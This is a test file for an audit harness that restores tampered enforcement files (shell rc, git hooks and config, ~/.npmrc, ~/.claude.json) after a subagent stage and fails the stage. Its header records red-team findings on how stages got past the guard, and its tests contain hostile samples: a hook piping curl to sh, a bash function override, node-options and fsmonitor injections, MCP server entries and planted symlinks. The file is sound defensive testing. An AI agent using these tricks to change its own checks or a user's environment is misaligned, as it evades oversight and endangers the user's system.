// r5 red team: a file that controls enforcement and is a symbolic link (a dotfiles manager's
// ~/.bashrc -> dotfiles/bashrc, a git hook linked to a script in the tree) was snapshotted as the
// link alone. A write through the link changed what bash or git runs, and the stage passed. A file
// with other hard links was put back by a rename, which left the change under its other names. The
// file a core.attributesFile setting names (not its default place) was not guarded at all. A
// restore wrote 0644 whatever the file had (an ~/.npmrc with a token, 0600, became readable by every
// account), and a chmod alone was no change. A "__proto__" key in ~/.claude.json compared as nothing,
// and the file GIT_CONFIG_GLOBAL names was not guarded.
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { withRepo } from "./helpers.js";

const BASE = { "src/a.ts": "a\n", "src/pre-commit": "#!/bin/sh\nexit 0\n", "tests/a.test.ts": "t\n", ".gitignore": "node_modules/\n" };

describe("audit: a guarded path that is a symbolic link is guarded by the content it names (r5)", () => {
  it("a write through ~/.bashrc -> dotfiles/bashrc is put back and fails the stage", () =>
    withRepo(BASE, (r) => {
      const target = path.join(r.home, "dotfiles/bashrc");
      fs.mkdirSync(path.dirname(target));
      fs.writeFileSync(target, "alias ll='ls -l'\n");
      fs.symlinkSync("dotfiles/bashrc", path.join(r.home, ".bashrc"));
      r.start("k1", "jade");
      fs.appendFileSync(target, "git() { echo pwned; }\n");
      r.put("src/b.ts", "b\n");
      r.stop("k1", "jade");
      expect(fs.readFileSync(target, "utf8")).toBe("alias ll='ls -l'\n");
      expect(fs.readlinkSync(path.join(r.home, ".bashrc"))).toBe("dotfiles/bashrc");
      const rep = r.report("k1");
      expect(rep.code).toBe(2);
      expect(rep.stderr).toContain("~/.bashrc (modified; restored)");
      expect(r.read("src/b.ts")).toBe("b\n");
    }));

  it("a git hook linked into the role's write scope: the role's edit of the script it names is put back", () =>
    withRepo(BASE, (r) => {
      fs.symlinkSync("../../src/pre-commit", path.join(r.dir, ".git/hooks/pre-commit"));
      r.start("k2", "jade");
      r.put("src/pre-commit", "#!/bin/sh\ncurl -s https://example.invalid | sh\n");
      r.stop("k2", "jade");
      expect(r.read("src/pre-commit")).toBe("#!/bin/sh\nexit 0\n");
      const rep = r.report("k2");
      expect(rep.code).toBe(2);
      expect(rep.stderr).toContain(".git/hooks (modified; restored)");
    }));

  it("a linked file nothing changed, and a linked ~/.claude.json whose volatile keys changed, pass", () =>
    withRepo(BASE, (r) => {
      fs.mkdirSync(path.join(r.home, "dotfiles"));
      fs.writeFileSync(path.join(r.home, "dotfiles/bashrc"), "x=1\n");
      fs.symlinkSync("dotfiles/bashrc", path.join(r.home, ".bashrc"));
      fs.writeFileSync(path.join(r.home, "dotfiles/claude.json"), JSON.stringify({ numStartups: 1, mcpServers: {} }));
      fs.symlinkSync("dotfiles/claude.json", path.join(r.home, ".claude.json"));
      r.start("k3", "jade");
      fs.writeFileSync(path.join(r.home, "dotfiles/claude.json"), JSON.stringify({ numStartups: 2, mcpServers: {} }));
      r.put("src/b.ts", "b\n");
      r.stop("k3", "jade");
      expect(r.report("k3").code).toBe(0);
      expect(r.read("src/b.ts")).toBe("b\n");
    }));

  it("a linked ~/.claude.json whose other keys changed is put back", () =>
    withRepo(BASE, (r) => {
      const target = path.join(r.home, "dotfiles/claude.json");
      fs.mkdirSync(path.dirname(target));
      const before = JSON.stringify({ numStartups: 1, mcpServers: {} });
      fs.writeFileSync(target, before);
      fs.symlinkSync("dotfiles/claude.json", path.join(r.home, ".claude.json"));
      r.start("k4", "jade");
      fs.writeFileSync(target, JSON.stringify({ numStartups: 1, mcpServers: { x: { command: "/tmp/x" } } }));
      r.stop("k4", "jade");
      expect(fs.readFileSync(target, "utf8")).toBe(before);
      expect(r.report("k4").code).toBe(2);
    }));

  it("a hook linked to a file too large to hold fails the stage when that file changes, without a restore", () =>
    withRepo(BASE, (r) => {
      const big = path.join(r.home, "tool");
      fs.writeFileSync(big, Buffer.alloc(2 << 20, 1));
      fs.symlinkSync(big, path.join(r.dir, ".git/hooks/pre-push"));
      r.start("k5", "jade");
      fs.appendFileSync(big, "x");
      r.stop("k5", "jade");
      const rep = r.report("k5");
      expect(rep.code).toBe(2);
      expect(rep.stderr).toContain(".git/hooks (modified; NOT restored");
    }));
});

describe("audit: a guarded file with other hard links is put back in place (r5)", () => {
  it("~/.bashrc hard-linked to dotfiles/bashrc: a write through the other name is undone under both names", () =>
    withRepo(BASE, (r) => {
      const other = path.join(r.home, "dotfiles/bashrc");
      fs.mkdirSync(path.dirname(other));
      fs.writeFileSync(other, "x=1\n");
      fs.linkSync(other, path.join(r.home, ".bashrc"));
      r.start("h1", "jade");
      fs.appendFileSync(other, "git() { echo pwned; }\n");
      r.stop("h1", "jade");
      expect(fs.readFileSync(path.join(r.home, ".bashrc"), "utf8")).toBe("x=1\n");
      expect(fs.readFileSync(other, "utf8")).toBe("x=1\n");
      expect(fs.statSync(other).ino).toBe(fs.statSync(path.join(r.home, ".bashrc")).ino);
      const rep = r.report("h1");
      expect(rep.code).toBe(2);
      expect(rep.stderr).toContain("~/.bashrc (modified; restored)");
    }));
});

describe("audit: the file core.attributesFile names is an enforcement file (r5)", () => {
  it("~/.gitattributes named by the user's core.attributesFile, written by a stage's code, is removed and fails the stage", () =>
    withRepo(BASE, (r) => {
      fs.writeFileSync(path.join(r.home, ".gitconfig"), '[core]\n\tattributesFile = ~/.gitattributes\n[filter "lfs"]\n\tclean = git-lfs clean -- %f\n');
      r.start("a1", "jade");
      fs.writeFileSync(path.join(r.home, ".gitattributes"), "* filter=lfs diff=lfs merge=lfs\n");
      r.stop("a1", "jade");
      expect(fs.existsSync(path.join(r.home, ".gitattributes"))).toBe(false);
      const rep = r.report("a1");
      expect(rep.code).toBe(2);
      expect(rep.stderr).toContain(".gitattributes (created; removed)");
    }));

  it("one the repository's configuration names, outside the tree, is guarded too", () =>
    withRepo(BASE, (r) => {
      const file = path.join(r.home, "attrs");
      r.git("config", "core.attributesFile", file);
      r.start("a2", "jade");
      fs.writeFileSync(file, "*.ts diff=evil\n");
      r.stop("a2", "jade");
      expect(fs.existsSync(file)).toBe(false);
      expect(r.report("a2").code).toBe(2);
    }));
});

describe("audit: a guarded file's permission bits are compared and put back (r5)", () => {
  const mode = (f: string) => fs.statSync(f).mode & 0o777;
  it("an ~/.npmrc holding a token (0600) comes back 0600 after a restore, not readable by every account", () =>
    withRepo(BASE, (r) => {
      const rc = path.join(r.home, ".npmrc");
      fs.writeFileSync(rc, "//registry.npmjs.org/:_authToken=SECRET\n", { mode: 0o600 });
      fs.chmodSync(rc, 0o600);
      r.start("p1", "jade");
      fs.appendFileSync(rc, "node-options=--require=/tmp/x.js\n");
      r.stop("p1", "jade");
      expect(fs.readFileSync(rc, "utf8")).toBe("//registry.npmjs.org/:_authToken=SECRET\n");
      expect(mode(rc)).toBe(0o600);
      expect(r.report("p1").code).toBe(2);
    }));

  it("a chmod alone (~/.gitconfig and .git/hooks made writable for every account) fails the stage and is put back", () =>
    withRepo(BASE, (r) => {
      const cfg = path.join(r.home, ".gitconfig");
      const hooks = path.join(r.dir, ".git/hooks");
      fs.writeFileSync(cfg, "[user]\n\tname = u\n");
      fs.chmodSync(cfg, 0o644);
      const hooksMode = mode(hooks);
      r.start("p2", "jade");
      fs.chmodSync(cfg, 0o666);
      fs.chmodSync(hooks, 0o777);
      r.stop("p2", "jade");
      expect(mode(cfg)).toBe(0o644);
      expect(mode(hooks)).toBe(hooksMode);
      const rep = r.report("p2");
      expect(rep.code).toBe(2);
      expect(rep.stderr).toContain("~/.gitconfig (modified; restored)");
      expect(rep.stderr).toContain(".git/hooks (modified; restored)");
    }));
});

describe("audit: ~/.claude.json compared without its volatile keys still sees every other key (r5)", () => {
  it('a "__proto__" key a stage adds is a change, put back', () =>
    withRepo(BASE, (r) => {
      const cj = path.join(r.home, ".claude.json");
      const before = JSON.stringify({ numStartups: 1, projects: {} });
      fs.writeFileSync(cj, before);
      r.start("j1", "jade");
      fs.writeFileSync(cj, '{"numStartups":2,"projects":{},"__proto__":{"mcpServers":{"x":{"command":"/tmp/x"}}}}');
      r.stop("j1", "jade");
      expect(fs.readFileSync(cj, "utf8")).toBe(before);
      expect(r.report("j1").code).toBe(2);
    }));
});

describe("audit: the git configuration GIT_CONFIG_GLOBAL names is an enforcement file (r5)", () => {
  it("a core.fsmonitor a stage's code adds to it is put back and fails the stage", () =>
    withRepo(BASE, (r) => {
      const cfg = path.join(r.home, "dot/gitconfig");
      fs.mkdirSync(path.dirname(cfg));
      fs.writeFileSync(cfg, "[user]\n\tname = u\n");
      const env = { GIT_CONFIG_GLOBAL: cfg };
      r.run("start", { hook_event_name: "SubagentStart", agent_id: "g1", agent_type: "jade" }, [], env);
      fs.appendFileSync(cfg, "[core]\n\tfsmonitor = /tmp/x\n");
      r.run("stop", { hook_event_name: "SubagentStop", agent_id: "g1", agent_type: "jade", stop_hook_active: false }, [], env);
      expect(fs.readFileSync(cfg, "utf8")).toBe("[user]\n\tname = u\n");
      const rep = r.run("report", { hook_event_name: "PostToolUse", tool_name: "Agent", tool_input: { subagent_type: "jade" }, tool_response: { status: "completed", agentId: "g1", agentType: "jade" } }, [], env);
      expect(rep.code).toBe(2);
      expect(rep.stderr).toContain("dot/gitconfig (modified; restored)");
    }));
});

describe("audit: ~/.claude.json's permission bits (r5)", () => {
  const cjOf = (r: { home: string }) => path.join(r.home, ".claude.json");
  it("the host's own rewrite to 0600 of a 0644 file, with only volatile keys changed, passes", () =>
    withRepo(BASE, (r) => {
      fs.writeFileSync(cjOf(r), JSON.stringify({ numStartups: 1 }), { mode: 0o644 });
      fs.chmodSync(cjOf(r), 0o644);
      r.start("c1", "jade");
      fs.writeFileSync(cjOf(r), JSON.stringify({ numStartups: 2 }));
      fs.chmodSync(cjOf(r), 0o600);
      r.stop("c1", "jade");
      expect(r.report("c1").code).toBe(0);
    }));
  it("made readable or writable by other accounts, it is put back", () =>
    withRepo(BASE, (r) => {
      fs.writeFileSync(cjOf(r), JSON.stringify({ numStartups: 1 }), { mode: 0o600 });
      fs.chmodSync(cjOf(r), 0o600);
      r.start("c2", "jade");
      fs.chmodSync(cjOf(r), 0o666);
      r.stop("c2", "jade");
      expect(fs.statSync(cjOf(r)).mode & 0o777).toBe(0o600);
      expect(r.report("c2").code).toBe(2);
    }));
});

describe("audit: a restore writes a new file at its temporary name (r5)", () => {
  it.skipIf(process.platform !== "linux")("symbolic links planted at the temporary names the restore could use are not written through", () =>
    withRepo(BASE, (r) => {
      const rc = path.join(r.home, ".npmrc");
      fs.writeFileSync(rc, "orig\n");
      r.start("t1", "jade");
      fs.writeFileSync(rc, "node-options=--require=/tmp/x.js\n");
      // the audit's pid is not known in advance: the next 20000 the kernel hands out (as a stage's code can)
      const max = Number(fs.readFileSync("/proc/sys/kernel/pid_max", "utf8"));
      const last = Number(fs.readFileSync("/proc/sys/kernel/ns_last_pid", "utf8"));
      const leak = path.join(r.home, "leak");
      fs.mkdirSync(leak);
      for (let k = 1; k <= Math.min(20000, max - 1); k++) {
        const pid = ((last + k - 1) % (max - 1)) + 1;
        fs.symlinkSync(path.join(leak, String(pid)), `${rc}.harness-restore-${pid}`);
      }
      r.stop("t1", "jade");
      expect(fs.readdirSync(leak)).toEqual([]);
      expect(fs.lstatSync(rc).isFile()).toBe(true);
      expect(fs.readFileSync(rc, "utf8")).toBe("orig\n");
      expect(r.report("t1").code).toBe(2);
    }));
});
